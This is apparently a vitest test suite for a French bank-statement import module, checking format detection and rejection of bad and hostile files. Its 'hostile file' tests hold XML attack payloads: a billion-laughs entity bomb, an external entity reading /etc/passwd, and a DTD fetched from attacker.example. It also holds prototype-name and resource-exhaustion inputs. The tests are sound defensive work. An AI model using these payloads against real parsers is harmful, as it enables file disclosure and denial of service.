import { describe, expect, it } from 'vitest';
import { readStatements } from '../../../src/import/bank/read-statement.ts';
import {
  CAMT_V2,
  CFONB,
  CSV,
  FIXTURES,
  MT940_DUTCH,
  MT940_GERMAN,
  OFX_SGML,
  OFX_XML,
} from '../../helpers/bank-fixtures.ts';
import { outcomeOf, refusalOf, statementsOf } from '../../helpers/bank-refusal.ts';
import { startProcessorClock } from '../../helpers/processor.ts';

describe('the format of a statement', () => {
  it.each(FIXTURES)('%s is recognised from its content, whatever its encoding', (_, content) => {
    const read = statementsOf(content);
    expect(read.length).toBeGreaterThan(0);
    expect(statementsOf(`\ufeff${content}`)).toEqual(read);
    expect(statementsOf(Buffer.from(`\ufeff${content}`, 'utf16le'))).toEqual(read);
    expect(statementsOf(Buffer.from(content, 'utf16le'))).toEqual(read);
    expect(statementsOf(Buffer.from(`\ufeff${content}`, 'utf16le').swap16())).toEqual(read);
  });

  it('is not that of its name', () => {
    expect(readStatements(Buffer.from(OFX_SGML), 'releve.csv')[0]?.format).toBe('ofx');
    expect(readStatements(Buffer.from(CSV.bnp), 'releve.ofx')[0]?.format).toBe('csv');
  });

  it('an amount of nothing is no movement', () => {
    const content = 'Date;Libellé;Montant\n01/02/2026;A;0,00\n02/02/2026;B;1,00\n';
    expect(statementsOf(content)[0]?.entries).toMatchObject([{ label: 'B' }]);
  });
});

const bytes = (text: string): Buffer => Buffer.from(text, 'latin1');

describe('a file that is no statement', () => {
  it.each([
    ['a PDF', '%PDF-1.7', 'releve.txt : c’est un PDF, qui se lit à l’œil'],
    ['a workbook', 'PK\u0003\u0004...', 'releve.txt : c’est un classeur ou une archive'],
    ['a compressed file', '\u001f\u008b\u0008', 'releve.txt : c’est une archive que relance n’ouvre pas'],
    [
      'an old workbook',
      '\u00d0\u00cf\u0011\u00e0',
      'releve.txt : c’est un ancien classeur Excel, ou un fichier protégé',
    ],
    ['an encrypted file', '-----BEGIN PGP MESSAGE-----\n', 'releve.txt : le fichier est chiffré'],
    ['a web page', '\n<!DOCTYPE html><p>', 'releve.txt : c’est une page web'],
    ['nothing', ' \n', 'releve.txt : le fichier est vide'],
    ['zeros', '\0\0\0\0', 'releve.txt : le fichier est abîmé ou chiffré (octets nuls)'],
    [
      'zeros within',
      `Date;Libellé;Montant\n01/02/2026;A\0;1\n`,
      'releve.txt : le fichier est abîmé ou chiffré (octets nuls)',
    ],
    [
      'words',
      'Bonjour, ceci est une lettre.',
      'releve.txt : les colonnes ne se reconnaissent pas (Bonjour, ceci est une lettre.)',
    ],
    ['bytes', '\u00e9\u0001\u0002\u00ff\u00fe', 'releve.txt : les colonnes ne se reconnaissent pas (éÿþ)'],
  ])('%s', (_, content, message) => {
    expect(refusalOf(bytes(content)).message).toBe(message);
  });

  it('its name is shown harmless', () => {
    expect(() => readStatements(bytes('%PDF'), 'a\u001b[31m\nb.pdf')).toThrow(
      /^a\[31m b\.pdf : c’est un PDF/,
    );
  });
});

const ENTITY = 'déclare un DOCTYPE ou une entité';
const laughs = Array.from(
  { length: 9 },
  (_, rank) => `<!ENTITY l${rank + 1} "${`&l${rank};`.repeat(10)}">`,
).join('');

describe('a hostile file', () => {
  it.each([
    [
      'entities that multiply',
      `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">${laughs}]><Document>&l9;</Document>`,
    ],
    [
      'a file of the machine',
      '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Document>&x;</Document>',
    ],
    ['a file of the network', '<!DOCTYPE Document SYSTEM "http://attacker.example/x.dtd"><Document/>'],
    ['parameter entities', '<?xml version="1.0"?><!doctype d [<!ENTITY % p "x"> %p;]><Document/>'],
  ])('%s: refused before it is parsed', (_, content) => {
    expect(refusalOf(content).message).toContain(ENTITY);
  });

  it.each([
    ['too deep', `<?xml version="1.0"?><Document>${'<a>'.repeat(500)}${'</a>'.repeat(500)}</Document>`],
    ['a name of the engine', '<?xml version="1.0"?><Document><__proto__><a/></__proto__></Document>'],
  ])('%s: refused in a sentence', (_, content) => {
    expect(refusalOf(content).message).toBe(
      'releve.txt : ses éléments sont trop imbriqués, ou portent un nom interdit',
    );
  });

  it('beyond 10 Mo, refused without being read', () => {
    expect(refusalOf(Buffer.alloc(10 * 1024 * 1024 + 1, 'a')).message).toBe(
      'releve.txt : le fichier dépasse 10 Mo',
    );
  });

  it.each([
    ['OFX 1', OFX_SGML],
    ['OFX 2', OFX_XML],
    ['CAMT.053', CAMT_V2],
    ['MT940', MT940_DUTCH],
    ['CFONB 120', CFONB.trimEnd()],
  ])('%s, cut anywhere, is refused', (_, content) => {
    // What ends it may lose a few characters and still say that it ends.
    const most = content.length - 40;
    for (let length = 1; length < most; length += 7)
      expect(refusalOf(content.slice(0, length)).message).toMatch(/^releve\.txt/);
  });

  const SIZE = 1_000_000;
  const camtHead = '<Document><BkToCstmrStmt><Stmt>';
  const mtHead = ':20:A\n:25:1\n:60F:C260101EUR0,\n';
  const csvHead = 'Date;Libellé;Montant\n';
  it.each([
    ['letters', '', 'a'],
    ['quotes', '', '"'],
    ['separators', '', ';'],
    ['separators under columns', csvHead, `${';'.repeat(10_000)}\n`],
    ['line ends', csvHead, '\n'],
    ['rows', csvHead, '01/02/2026;A;1\n'],
    ['a quote never closed', `${csvHead}"`, 'a\n'],
    ['tags', '<', '<'],
    ['XML never closed', '<?xml version="1.0"?>', '<a>'],
    ['CDATA never closed', '<OFX>', '<![CDATA['],
    ['OFX never closed', '<OFX>', '<A></OFX>'],
    ['OFX, empty values', '<OFX>', '<MEMO>'],
    ['OFX, transactions', '<OFX><STMTRS><CURDEF>EUR</OFX>', '<STMTTRN><DTPOSTED>20260101<TRNAMT>1'],
    ['OFX, statements', '<OFX></OFX>', '<STMTRS><CURDEF>EUR'],
    ['CAMT, statements', '<Document><BkToCstmrStmt>', '<Stmt></Stmt>'],
    ['CAMT, entries', camtHead, '<Ntry></Ntry>'],
    ['MT940, lines', mtHead, ':61:260101C1,NTRFA\n'],
    ['MT940, words', `${mtHead}:61:260101C1,NTRFA\n:86:`, '?20a'],
    ['MT940, a field that goes on', `${mtHead}:86:`, 'x\n'],
    ['MT940, statements', '', ':20:A\n:25:1\n:60F:C260101EUR0,\n:62F:C260101EUR0,\n'],
    ['CFONB, complements', CFONB.slice(0, 250), `${CFONB.split('\r\n')[2]}\n`],
    ['QIF, records', '!Type:Bank\n', 'D01/01/2026\nT1\n^\n'],
    ['QIF, a long label', '!Type:Bank\nD01/01/2026\nT1\nP', 'a '],
    ['QIF, a long amount', '!Type:Bank\nD01/01/2026\nT', '1,'],
  ])('%s without end: read or refused, in time', (_, head, unit) => {
    const content = bytes(head + unit.repeat(Math.floor(SIZE / unit.length)));
    const spent = startProcessorClock();
    expect(outcomeOf(content)).toMatch(/^(?:read|refused)$/);
    expect(spent()).toBeLessThan(5000);
  });

  it('MT940 that stops after a page is what the page says', () => {
    const page = MT940_GERMAN.slice(0, MT940_GERMAN.indexOf('\r\n-'));
    expect(statementsOf(page)[0]).toMatchObject({ to: '2026-01-02' });
  });
});
